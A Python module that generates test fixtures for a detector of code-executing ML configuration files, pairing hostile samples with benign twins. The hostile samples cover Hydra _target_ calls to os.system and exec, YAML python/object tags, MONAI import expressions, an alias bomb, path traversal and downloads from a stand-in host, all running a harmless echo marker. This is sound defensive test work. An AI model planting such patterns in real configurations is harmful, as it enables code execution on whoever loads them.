"""Configurations that name code: one hit for each CFG rule, and benign twins."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Iterator

MARKER = "echo weighbridge-marker"
HOST = "example.invalid"
DIGEST = "sha256:" + "ab" * 32


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    for name, content in (*_hydra(), *_expressions(), *_tags(), *_servers(), *_others(), *_sidecars()):
        data = content if isinstance(content, bytes) else content.encode()
        yield f"config/{name}", data
    yield "config/hostile.nemo", _nemo("_target_: os.system\ncommand: " + MARKER + "\n")
    yield "config/honest.twin.nemo", _nemo(NEMO)
    yield "config/outside.nemo", _nemo("tokenizer: {model_path: 'nemo:../../weighbridge-marker'}\n")


NEMO = """\
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: ${preprocessor.features}
tokenizer:
  dir: null
  model_path: nemo:3f2a_tokenizer.model
optim: {name: adamw, lr: 0.001}
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
"""

HYDRA = """\
defaults:
  - _self_
model:
  _target_: torchvision.models.resnet18
optimizer:
  _target_: torch.optim.AdamW
  _partial_: true
  lr: 0.001
trainer:
  _target_: lightning.pytorch.Trainer
  max_epochs: 3
  callbacks:
    - _target_: lightning.pytorch.callbacks.ModelCheckpoint
      dirpath: ${oc.env:OUTPUT,runs}
logger:
  _target_: lightning.pytorch.loggers.wandb.WandbLogger
activation:
  _target_: hydra.utils.get_class
  path: torch.nn.ReLU
metric:
  _target_: torchmetrics.Accuracy
  task: multiclass
"""

SPEECHBRAIN = """\
seed: 1986
__set_seed: !apply:torch.manual_seed [!ref <seed>]
n_mels: 80
compute_features: !new:speechbrain.lobes.features.Fbank
  n_mels: !ref <n_mels>
modules:
  embedding: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN
    input_size: !ref <n_mels>
activation: !name:torch.nn.LeakyReLU
"""

MONAI = {
    "imports": ["$import glob", "$import os"],
    "bundle_root": "/workspace",
    "datalist": "$list(sorted(glob.glob(@dataset_dir + '/*.nii')))",
    "output": "$os.path.join(@bundle_root, 'eval')",
    "network": {"_target_": "monai.networks.nets.UNet", "spatial_dims": 3},
    "transform": {"_target_": "Compose", "transforms": [{"_target_": "LoadImaged", "keys": "image"}]},
    "epochs": "$2 * 50",
}


def _nemo(config: str) -> bytes:
    """A `.nemo` file: a tar with the configuration and, here, no weights."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo("./model_config.yaml")
        info.size = len(config.encode())
        archive.addfile(info, io.BytesIO(config.encode()))
    return stream.getvalue()


def _hydra() -> Iterator[tuple[str, str | bytes]]:
    yield "hydra.twin.yaml", HYDRA
    yield "target-system.yaml", f"model:\n  _target_: os.system\n  command: {MARKER}\n"
    yield "target-system.json", json.dumps({"a": [{"_target_": "os.system", "command": MARKER}]})
    yield "target-exec-without-suffix", f'_target_: builtins.exec\n_args_: ["print({MARKER!r})"]\n'
    yield "target-walks.yaml", f"_target_: torch.distributed.fsdp.os.system\n_args_: [{MARKER}]\n"
    yield "target-joined.yaml", f"a: os.sys\nmodel: {{_target_: '${{a}}tem', command: {MARKER}}}\n"
    yield "target-fetched.yaml", "_target_: hydra.utils.get_method\npath: subprocess.Popen\n"
    yield "target-latent-diffusion.yaml", f"model:\n  target: os.popen\n  params: {{cmd: {MARKER}}}\n"
    yield "class-path.yaml", f"model:\n  class_path: subprocess.Popen\n  init_args: {{args: {MARKER}}}\n"
    yield (
        "kind-instance.json",
        json.dumps({"__kind__": "instance", "class": "os.system", "args": [MARKER]}),
    )
    yield "jsonpickle.json", json.dumps({"py/object": "subprocess.Popen", "args": [MARKER]})
    yield "target.toml", f'[model]\n_target_ = "os.system"\ncommand = "{MARKER}"\n'
    yield "target-removes.yaml", "_target_: shutil.rmtree\npath: /tmp/weighbridge-marker\n"
    yield "type-system.json", json.dumps({"hook": {"type": "os.system", "command": MARKER}})
    yield "unknown-package.yaml", "model:\n  _target_: src.models.net.Net\n  width: 64\n"
    yield (
        "loads.yaml",
        ("_target_: transformers.AutoModel.from_pretrained\npretrained_model_name_or_path: org/name\n"),
    )
    yield (
        "opens.yaml",
        (f"_target_: torchvision.datasets.utils.download_url\nurl: https://{HOST}/marker\nroot: data\n"),
    )
    yield "secret.yaml", "hub:\n  token: ${oc.env:HF_TOKEN}\n"
    yield "computed.yaml", "_target_: ${oc.env:WEIGHBRIDGE_MARKER}\n"
    yield (
        "types.twin.json",
        json.dumps(
            {"type": "code.block", "func": "user.login", "target": "platform.linux", "cls": "test.unit"}
        ),
    )
    allennlp = {"dataset_reader": {"type": "snli"}, "model": {"type": "my_package.models.Net"}}
    yield "allennlp.json", json.dumps(allennlp)
    yield (
        "rasa.yml",
        (
            "recipe: default.v1\nlanguage: en\npipeline:\n- name: WhitespaceTokenizer\n"
            "- name: components.marker.Custom\npolicies:\n- name: MemoizationPolicy\n"
        ),
    )


def _expressions() -> Iterator[tuple[str, str | bytes]]:
    yield "monai.twin.json", json.dumps(MONAI, indent=1)
    hostile = {**MONAI, "x": f"$__import__('os').system('{MARKER}')"}
    yield "monai-system.json", json.dumps(hostile, indent=1)
    renamed = {**MONAI, "imports": ["$import subprocess as sp"], "x": f"$sp.run('{MARKER}')"}
    yield "monai-renamed.json", json.dumps(renamed, indent=1)
    yield "resolver-eval.yaml", f'width: ${{eval:\'__import__("os").system("{MARKER}")\'}}\n'
    yield "resolver-eval.twin.yaml", "width: ${eval:'${heads} * 64'}\nheads: 8\n"
    logging = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[handler_h]\nclass=StreamHandler\nargs={}\n"
    yield "logging.ini", logging.format(f"(__import__('os').system('{MARKER}'),)")
    yield "logging.twin.ini", logging.format("(sys.stderr,)")


def _tags() -> Iterator[tuple[str, str | bytes]]:
    yield "tag-apply.yaml", f"a: 1\nb: !!python/object/apply:os.system ['{MARKER}']\n"
    yield "tag-verbatim.yaml", f"!<tag:yaml.org,2002:python/object/new:subprocess.Popen> ['{MARKER}']\n"
    yield (
        "tag-handle.yaml",
        (f"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ['{MARKER}']\n"),
    )
    yield (
        "tag-second-document.yaml",
        (f"a: 1\n---\nb: !!python/object/apply:os.system ['{MARKER}']\n---\nbroken: [\n"),
    )
    yield "tag-flow.yaml", '{"a": !!python/object/apply:os.system ["' + MARKER + '"]}\n'
    yield "tag-unknown.yaml", "!!python/object/apply:package.module.function [1]\n"
    yield (
        "tag-known.twin.yaml",
        (
            "path: !!python/object/apply:pathlib.PosixPath [data]\nshape: !!python/tuple [1, 2]\n"
            "emoji: !!python/name:materialx.emoji.twemoji ''\n"
        ),
    )
    yield "tag-javascript.yaml", "flavors: !!js/function 'function () { return 1 }'\n"
    yield "tag-java.yaml", f'!!javax.script.ScriptEngineManager [!!java.net.URL ["https://{HOST}/"]]\n'
    yield "tag-local.twin.yaml", "a: !Ref b\nb: !ENV ${X}\nc: !reference [a, b]\n"
    yield "speechbrain.twin.yaml", SPEECHBRAIN
    yield "speechbrain-system.yaml", f"{SPEECHBRAIN}x: !apply:os.system [{MARKER}]\n"
    laughs = "a0: &a0 [x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 8)}]\n" for n in range(1, 6)
    )
    yield "aliases.yaml", laughs
    yield (
        "aliases-beyond.yaml",
        laughs + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 8)}]\n" for n in range(6, 12)),
    )
    yield "aliases.twin.yaml", "base: &base {lr: 0.1, steps: 10}\nrun: {<<: *base, lr: 0.2}\n"
    yield "key-twice.yaml", "_target_: torch.nn.Identity\n_target_: torch.nn.Linear\n"
    yield "template.twin.yaml", "{% for x in y %}\nname: {{ x }}\n{% endfor %}\n"


MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.7
  sklearn: {code: null, pickled_model: model.pkl, serialization_format: cloudpickle}
mlflow_version: 3.1.0
model_uuid: 5f2ae1fd2a3c4f0e9d3a1d0c1b2a3948
utc_time_created: '2025-06-01 10:00:00.000000'
"""


def _servers() -> Iterator[tuple[str, str | bytes]]:
    yield "mlflow.twin/MLmodel", MLMODEL
    yield "mlflow-library/MLmodel", MLMODEL.replace("mlflow.sklearn", "subprocess")
    yield "mlflow-loader/MLmodel", MLMODEL.replace("mlflow.sklearn", "marker_loader\n    code: code")
    yield (
        "mlflow-outside/MLmodel",
        MLMODEL.replace("model_path: model.pkl", "model_path: ../../marker.pkl"),
    )
    script = MLMODEL.replace("predict_fn: predict", "predict_fn: <script>/* marker */</script>")
    yield "mlflow-script/MLmodel", script
    yield (
        "conda.yaml",
        (
            "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==3.1.0\n"
            f"  - --extra-index-url https://packages.{HOST}/simple\n"
        ),
    )
    yield (
        "conda.twin/conda.yaml",
        (
            "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==3.1.0\n"
            "  - --extra-index-url https://download.pytorch.org/whl/cpu\n"
        ),
    )
    yield "requirements.txt", f"numpy\nmarker @ https://{HOST}/marker-1.0.tar.gz  # built from source\n"
    yield "git/requirements.txt", "git+https://github.com/huggingface/transformers.git\n"
    yield "requirements.twin/requirements.txt", "# https://example.invalid/\nnumpy>=1.26\ntorch==2.7.0\n"
    yield (
        "bentofile.yaml",
        (
            "service: 'service:svc'\ninclude: ['*.py']\npython: {packages: [numpy]}\n"
            "docker: {setup_script: ./setup.sh}\n"
        ),
    )
    yield "triton-python/config.pbtxt", 'name: "pre"\nbackend: "python"\nmax_batch_size: 8\n'
    yield (
        "triton.twin/config.pbtxt",
        (
            'name: "net"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\n'
            'input [ { name: "x" data_type: TYPE_FP32 dims: [ 3, 224, 224 ] } ]\n'
            'default_model_filename: "model.onnx"\n'
        ),
    )
    yield (
        "triton-outside/config.pbtxt",
        ('name: "net"\nbackend: "onnxruntime"\ndefault_model_filename: "../../marker/model.onnx"\n'),
    )
    yield (
        "triton-library/config.pbtxt",
        (
            'name: "net"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 0\n'
            'model_operations { op_library_filename: "libmarker.so" }\n'
            'parameters { key: "EXECUTION_ENV_PATH" value { string_value: "env.tar.gz" } }\n'
        ),
    )


SPACY = """\
[paths]
train = null

[nlp]
lang = "en"
pipeline = ["tok2vec","tagger"]
before_creation = null
tokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}

[components]

[components.tagger]
factory = "tagger"

[components.tagger.model]
@architectures = "spacy.Tagger.v2"
nO = null

[training.optimizer]
@optimizers = "Adam.v1"
"""


def _others() -> Iterator[tuple[str, str | bytes]]:
    yield "spacy.twin/config.cfg", SPACY
    custom = SPACY.replace("spacy.Tagger.v2", "marker_package.Tagger.v1")
    yield "spacy-package/config.cfg", custom
    callback = '\n[nlp.before_creation]\n@callbacks = "marker_callback"\n'
    yield "spacy-callback/config.cfg", SPACY.replace("before_creation = null\n", "") + callback
    yield "Modelfile", f"FROM https://{HOST}/marker.gguf\nPARAMETER temperature 1\n"
    yield (
        "modelfile.twin/Modelfile",
        'FROM ./model.gguf\nSYSTEM """\nFROM /etc is no instruction here\n"""\n',
    )


def _manifest(digest: str, kind: str) -> str:
    config = {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": DIGEST, "size": 1}
    layers = [{"mediaType": kind, "digest": digest, "size": 4}]
    whole = {"schemaVersion": 2, "config": config, "layers": layers}
    return json.dumps(whole)


def _sidecars() -> Iterator[tuple[str, str | bytes]]:
    weights = "application/vnd.ollama.image.model"
    yield "ollama.twin/manifest.json", _manifest(DIGEST, weights)
    yield "ollama-outside/manifest.json", _manifest("../../../../weighbridge-marker", weights)
    odd = json.loads(_manifest(DIGEST, weights))
    odd["layers"].append({**odd["layers"][0], "mediaType": "application/vnd.ollama.image.marker"})
    odd["layers"].append({**odd["layers"][0], "mediaType": "application/x-marker"})
    yield "ollama-odd/manifest.json", json.dumps(odd)
    adapter = {
        "peft_type": "LORA",
        "base_model_name_or_path": "meta-llama/Llama-3.2-1B",
        "target_modules": ["q_proj", "v_proj"],
        "r": 8,
        "auto_mapping": {
            "base_model_class": "LlamaForCausalLM",
            "parent_library": "transformers.models.llama.modeling_llama",
        },
    }
    yield "lora.twin/adapter_config.json", json.dumps(adapter)
    hostile = {**adapter, "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
    yield "lora-import/adapter_config.json", json.dumps(hostile)
    unknown = {
        **adapter,
        "auto_mapping": {"base_model_class": "Net", "parent_library": "marker_package"},
    }
    yield "lora-package/adapter_config.json", json.dumps(unknown)
    local = {**adapter, "base_model_name_or_path": "/srv/llama", "modules_to_save": ["lm_head"]}
    yield "lora-local/adapter_config.json", json.dumps(local)
    spec = {"driver": "zarr", "kvstore": {"driver": "http", "base_url": f"https://{HOST}/arrays/"}}
    yield "tensorstore.json", json.dumps(spec)
    inside = {"driver": "zarr", "kvstore": {"driver": "file", "path": "arrays/w"}}
    yield "tensorstore.twin.json", json.dumps(inside)
